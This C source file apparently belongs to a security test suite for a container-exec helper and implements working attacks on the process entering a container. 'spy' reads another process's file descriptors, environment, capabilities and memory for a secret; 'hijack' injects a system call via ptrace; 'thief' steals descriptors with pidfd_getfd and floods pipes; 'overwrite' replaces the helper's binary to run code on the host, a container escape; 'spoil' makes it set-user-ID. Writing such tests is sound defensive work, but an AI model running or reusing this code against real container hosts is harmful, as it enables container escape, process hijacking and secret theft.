/* Attacks on the process that enters, from its birth to its execve. */
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#include <elf.h>
#include <netinet/in.h>

/* ---- spy: look at everything that /proc shows of an entering process ---- */

enum { MAX_KINDS = 256, KIND_SIZE = 200 };

/* Numbers differ from one process to the next, so each run of digits becomes one N. */
static void blur(char *text)
{
    char *to = text;
    for (const char *from = text; *from != '\0'; from++) {
        const bool digit = *from >= '0' && *from <= '9';
        if (!digit) {
            *to++ = *from;
        } else if (to == text || to[-1] != 'N') {
            *to++ = 'N';
        }
    }
    *to = '\0';
}

/* Reports a finding, each different one once. */
static void find(const char *what, const char *detail)
{
    static char known[MAX_KINDS][KIND_SIZE];
    static size_t count;
    char line[KIND_SIZE];
    snprintf(line, sizeof(line), "%s %s", what, detail);
    blur(line);
    for (size_t i = 0; i < count; i++) {
        if (strcmp(known[i], line) == 0) {
            return;
        }
    }
    if (count < MAX_KINDS) {
        memcpy(known[count++], line, sizeof(line));
    }
    say("%s", line);
}

static bool look_at_link(pid_t pid, const char *name)
{
    char path[300], target[PATH_MAX];
    snprintf(path, sizeof(path), "/proc/%d/%s", (int)pid, name);
    ssize_t length = readlink(path, target, sizeof(target) - 1);
    if (length < 0) {
        return false;
    }
    target[length] = '\0';
    if (strncmp(name, "fd/", 3) != 0) {
        find(name, target);
    } else {
        find(strcmp(name, "fd/3") < 0 && name[4] == '\0' ? "stdio" : "fd", target);
    }
    return true;
}

static bool look_at_descriptors(pid_t pid)
{
    char path[64], name[300];
    snprintf(path, sizeof(path), "/proc/%d/fd", (int)pid);
    bool seen = false;
    DIR *folder = opendir(path);
    if (folder == NULL) {
        return false;
    }
    for (struct dirent *entry; (entry = readdir(folder)) != NULL;) {
        if (entry->d_name[0] == '.') {
            continue;
        }
        snprintf(name, sizeof(name), "fd/%s", entry->d_name);
        seen = look_at_link(pid, name) || seen;
    }
    closedir(folder);
    return seen;
}

/* Reports the names of what is mapped, and where the secret is in memory that can be read. */
static void look_at_memory(pid_t pid, const char *secret)
{
    char path[64], line[PATH_MAX + 100];
    static char data[1 << 20];
    snprintf(path, sizeof(path), "/proc/%d/maps", (int)pid);
    FILE *maps = fopen(path, "re");
    snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
    int memory = open(path, O_RDONLY | O_CLOEXEC);
    while (maps != NULL && fgets(line, sizeof(line), maps) != NULL) {
        char *end;
        const unsigned long from = strtoul(line, &end, 16), to = strtoul(end + (*end == '-'), NULL, 16);
        line[strcspn(line, "\n")] = '\0';
        const char *name = strpbrk(line, "/["); /* all that has a name */
        name = name != NULL ? name : "anonymous";
        find("map", name);
        for (unsigned long at = from; memory >= 0 && at < to; at += sizeof(data)) {
            size_t size = to - at < sizeof(data) ? to - at : sizeof(data);
            ssize_t got = pread(memory, data, size, (off_t)at);
            if (got > 0 && memmem(data, (size_t)got, secret, strlen(secret)) != NULL) {
                find("secret", name);
            }
        }
    }
    if (maps != NULL) {
        fclose(maps);
    }
    if (memory >= 0) {
        close(memory);
    }
}

static void look_at_environment(pid_t pid)
{
    char path[64], text[256];
    snprintf(path, sizeof(path), "/proc/%d/environ", (int)pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t got = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
    if (fd >= 0) {
        close(fd);
    }
    if (got > 0) {
        text[got] = '\0';
        find("environ", text);
    }
}

static void look_at_capabilities(pid_t pid)
{
    static const char *const sets[] = {"CapInh", "CapPrm", "CapEff", "CapAmb"};
    char text[64];
    const uint64_t own = status_mask(getpid(), "CapBnd");
    for (size_t i = 0; i < sizeof(sets) / sizeof(sets[0]); i++) {
        uint64_t more = status_mask(pid, sets[i]) & ~own;
        if (more != 0) {
            snprintf(text, sizeof(text), "%s %s", sets[i], "more than the container's");
            find("capabilities", text);
        }
    }
}

/* spy SECRET: stops each entering process at its birth and looks at it as long as it likes. Every ten
 * samples it says how many there were. */
int spy(int argc, char **argv)
{
    const char *secret = argc > 0 ? argv[0] : "";
    unsigned samples = 0, seen = 0;
    say("ready");
    for (;;) {
        pid_t pid = wait_for_birth();
        if (stop_entering(pid)) {
            samples++;
            look_at_capabilities(pid);
            if (look_at_descriptors(pid)) {
                seen++;
            }
            look_at_link(pid, "exe");
            look_at_link(pid, "cwd");
            look_at_link(pid, "root");
            look_at_environment(pid);
            look_at_memory(pid, secret);
            if (samples % 10 == 0) {
                say("samples %u readable %u", samples, seen);
            }
        }
        kill(pid, SIGCONT);
    }
}

/* ---- hijack: make an entering process do a system call of the attacker's choice ---- */

#if defined(__x86_64__)
static const unsigned char trap_code[] = {0x0f, 0x05, 0xcc}; /* syscall; int3 */
static void set_call(struct user_regs_struct *registers, unsigned long at, long number, unsigned long first,
                     unsigned long second)
{
    registers->rip = at;
    registers->rax = (unsigned long)number;
    registers->orig_rax = (unsigned long)-1;
    registers->rdi = first;
    registers->rsi = second;
}
static unsigned long position(const struct user_regs_struct *registers)
{
    return registers->rip;
}
static long result(const struct user_regs_struct *registers)
{
    return (long)registers->rax;
}
#elif defined(__aarch64__)
static const unsigned char trap_code[] = {0x01, 0, 0, 0xd4, 0, 0, 0x20, 0xd4}; /* svc 0; brk 0 */
static void set_call(struct user_regs_struct *registers, unsigned long at, long number, unsigned long first,
                     unsigned long second)
{
    registers->pc = at;
    registers->regs[8] = (unsigned long)number;
    registers->regs[0] = first;
    registers->regs[1] = second;
}
static unsigned long position(const struct user_regs_struct *registers)
{
    return registers->pc;
}
static long result(const struct user_regs_struct *registers)
{
    return (long)registers->regs[0];
}
#endif

static bool set_memory(pid_t pid, unsigned long at, const void *data, size_t size)
{
    char path[64];
    snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
    int memory = open(path, O_RDWR | O_CLOEXEC);
    bool done = memory >= 0 && pwrite(memory, data, size, (off_t)at) == (ssize_t)size;
    if (memory >= 0) {
        close(memory);
    }
    return done;
}

/* Makes a stopped process call sethostname("owned"), which takes CAP_SYS_ADMIN. */
static long inject(pid_t pid)
{
    struct user_regs_struct registers = {0};
    struct iovec all = {.iov_base = &registers, .iov_len = sizeof(registers)};
    int status;
    if (ptrace(PTRACE_GETREGSET, pid, NT_PRSTATUS, &all) < 0) {
        return -errno;
    }
    unsigned long at = position(&registers) & ~15UL;
    unsigned char code[sizeof(trap_code) + 8] = {0};
    memcpy(code, trap_code, sizeof(trap_code));
    memcpy(code + sizeof(trap_code), "owned", 6);
    if (!set_memory(pid, at, code, sizeof(code))) {
        return -errno;
    }
    set_call(&registers, at, SYS_sethostname, at + sizeof(trap_code), 5);
    if (ptrace(PTRACE_SETREGSET, pid, NT_PRSTATUS, &all) < 0 || ptrace(PTRACE_CONT, pid, NULL, NULL) < 0) {
        return -errno;
    }
    if (waitpid(pid, &status, __WALL) < 0 || !WIFSTOPPED(status)) {
        return -ESRCH;
    }
    if (ptrace(PTRACE_GETREGSET, pid, NT_PRSTATUS, &all) < 0) {
        return -errno;
    }
    return result(&registers);
}

/* hijack: takes over each entering process. */
int hijack(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    say("ready");
    for (;;) {
        pid_t pid = wait_for_birth();
        int status;
        if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0) {
            if (errno != ESRCH) {
                say("attach: %s", strerror(errno));
            }
            continue;
        }
        bool stopped = waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status);
        if (stopped && is_entering(pid)) {
            long got = inject(pid);
            say("sethostname in the entering process: %s", got == 0 ? "done" : strerror((int)-got));
            kill(pid, SIGKILL);
            waitpid(pid, &status, __WALL);
        } else if (stopped) {
            ptrace(PTRACE_DETACH, pid, NULL, NULL);
            kill(pid, SIGCONT); /* the stop of the attachment may be yet to come */
        }
    }
}

/* ---- killer and stopper ---- */

/* killer: kills each entering process. */
int killer(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    say("ready");
    for (;;) {
        pid_t pid = wait_for_birth();
        const bool caught = stop_entering(pid);
        if (caught) {
            say("killed");
        }
        kill(pid, caught ? SIGKILL : SIGCONT);
    }
}

/* stopper: stops each entering process for good. */
int stopper(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    say("ready");
    for (;;) {
        pid_t pid = wait_for_birth();
        if (stop_entering(pid)) {
            say("stopped");
        } else {
            kill(pid, SIGCONT);
        }
    }
}

/* ---- thief: take the descriptors of an entering process ---- */

int deaf_listener(void)
{
    const int small = 1;
    const struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    setsockopt(listener, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
    if (bind(listener, (const struct sockaddr *)&address, sizeof(address)) < 0 || listen(listener, 64) < 0) {
        give_up("listen");
    }
    return listener;
}

int lingering_socket(int listener)
{
    const struct linger linger = {.l_onoff = 1, .l_linger = 3600};
    struct sockaddr_in address;
    socklen_t length = sizeof(address);
    static char data[1 << 16];
    int client = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
    if (getsockname(listener, (struct sockaddr *)&address, &length) < 0) {
        give_up("getsockname");
    }
    if (connect(client, (struct sockaddr *)&address, length) < 0 && errno != EINPROGRESS) {
        give_up("connect");
    }
    usleep(10000);
    while (send(client, data, sizeof(data), MSG_DONTWAIT) > 0) {
        ;
    }
    setsockopt(client, SOL_SOCKET, SO_LINGER, &linger, sizeof(linger));
    return client;
}

struct packet {
    uint32_t kind, step;
    int32_t error, value;
    char detail[120];
};

ssize_t send_fd(int to, int fd)
{
    struct packet data = {.kind = 99};
    struct iovec piece = {.iov_base = &data, .iov_len = sizeof(data)};
    union {
        struct cmsghdr header;
        char bytes[CMSG_SPACE(sizeof(fd))];
    } control = {{0}};
    struct msghdr message = {
        .msg_iov = &piece, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof(control)};
    control.header =
        (struct cmsghdr){.cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS, .cmsg_len = CMSG_LEN(sizeof(fd))};
    memcpy(CMSG_DATA(&control.header), &fd, sizeof(fd));
    return sendmsg(to, &message, MSG_NOSIGNAL | MSG_DONTWAIT);
}

/* Tries what a stolen descriptor is good for. A socket carries descriptors to the caller; a pipe carries
 * bytes. */
static void use(int fd, const char *how)
{
    struct stat about;
    fstat(fd, &about);
    if (S_ISSOCK(about.st_mode) && strcmp(how, "linger") == 0) {
        int bomb = lingering_socket(deaf_listener());
        say("socket: %s", send_fd(fd, bomb) > 0 ? "sent a descriptor" : strerror(errno));
        close(bomb);
    } else if (S_ISSOCK(about.st_mode)) {
        say("socket");
    } else if ((fcntl(fd, F_GETFL) & O_ACCMODE) == O_WRONLY && strcmp(how, "flood") == 0) {
        static const struct packet junk = {.kind = 77};
        bool first = true; /* several writers, so that the caller always has something to read */
        for (int i = 0; i < 7 && first; i++) {
            first = fork() > 0;
        }
        while (write(fd, &junk, sizeof(junk)) >= 0 || errno != EPIPE) {
            ;
        }
        if (!first) {
            _exit(0);
        }
        say("pipe: flooded");
    }
}

/* thief HOW: copies every descriptor above stdio of each entering process (pidfd_getfd(2)) and keeps the
 * copies, so that the caller never sees the end of a pipe or socket. "linger": sends a socket that takes an
 * hour to close over each socket; "flood": writes to each pipe without end, while the process is stopped. */
int thief(int argc, char **argv)
{
    const char *how = argc > 0 ? argv[0] : "keep";
    signal(SIGPIPE, SIG_IGN);
    say("ready");
    for (;;) {
        pid_t pid = wait_for_birth();
        int pidfd = stop_entering(pid) ? (int)syscall(SYS_pidfd_open, pid, 0) : -1;
        for (int number = 3; pidfd >= 0 && number < 40; number++) {
            int fd = (int)syscall(SYS_pidfd_getfd, pidfd, number, 0);
            if (fd < 0 && errno == EPERM) {
                say("pidfd_getfd: %s", strerror(errno));
                break;
            }
            if (fd < 0) {
                continue;
            }
            say("took %d", number);
            use(fd, how);
        }
        if (pidfd < 0 || strcmp(how, "flood") != 0) {
            kill(pid, SIGCONT);
        }
        if (pidfd >= 0) {
            close(pidfd);
        }
    }
}

/* ---- the helper's image ---- */

static bool is_image(const char *link)
{
    char target[64] = "";
    return readlink(link, target, sizeof(target) - 1) > 0 && strncmp(target, "/memfd:ctrexec", 14) == 0;
}

static int image_of(pid_t pid)
{
    char path[64];
    snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
    if (!is_image(path)) {
        return -1;
    }
    int image = open(path, O_RDONLY | O_CLOEXEC);
    if (image < 0) {
        return -1;
    }
    /* Meanwhile the process may have become the command, whose file is the container's own. */
    snprintf(path, sizeof(path), "/proc/self/fd/%d", image);
    if (is_image(path)) {
        return image;
    }
    close(image);
    return -1;
}

/* The image of the next process that enters. With CAP_SYS_PTRACE the image can be opened before the process's
 * execve; else only after it, when the command is a script with #!/proc/self/exe, which the image then
 * runs. */
static int next_image(void)
{
    for (;;) {
        pid_t pid = wait_for_birth();
        for (int tries = 0; tries < 20000; tries++) {
            int image = image_of(pid);
            if (image >= 0) {
                return image;
            }
            if (kill(pid, 0) < 0) {
                break;
            }
        }
    }
}

/* overwrite PATH [IMAGE]: puts this program in place of the helper's image, so that it runs as the next
 * helper and writes to PATH of the host. IMAGE: a descriptor of the image, instead of the image of the next
 * process that enters. */
int overwrite(int argc, char **argv)
{
    static char tail[4096];
    char path[64], block[1 << 16];
    if (argc < 1) {
        return 2;
    }
    strncpy(tail, argv[0], sizeof(tail) - 1);
    say("ready");
    int image = argc > 1 ? (int)strtol(argv[1], NULL, 10) : next_image();
    say("opened the image");
    snprintf(path, sizeof(path), "/proc/self/fd/%d", image);
    int target = -1;
    for (int tries = 0; tries < 100000 && target < 0; tries++) {
        target = open(path, O_WRONLY | O_CLOEXEC);
        if (target < 0 && errno != ETXTBSY) {
            break;
        }
    }
    if (target < 0) {
        say("overwritten: %s", strerror(errno));
        for (;;) {
            pause();
        }
    }
    int own = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    bool good = ftruncate(target, 0) == 0;
    int error = errno;
    ssize_t got;
    while (good && (got = read(own, block, sizeof(block))) > 0) {
        good = write(target, block, (size_t)got) == got;
    }
    good = good && write(target, tail, sizeof(tail)) == (ssize_t)sizeof(tail);
    close(target); /* a file that is open for writing cannot be executed */
    say("overwritten: %s", good ? "yes" : strerror(error));
    for (;;) {
        pause();
    }
}

/* spoil: takes the image's mode bits away, or makes it a set-user-ID file of another owner, for the next
 * execve of it. */
int spoil(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    say("ready");
    int image = next_image();
    bool mode = fchmod(image, 0) == 0;
    bool setuid = !mode && fchown(image, 1000, 1000) == 0 && fchmod(image, 06777) == 0;
    say("spoilt: %s", mode ? "mode" : setuid ? "owner" : strerror(errno));
    for (;;) {
        pause();
    }
}
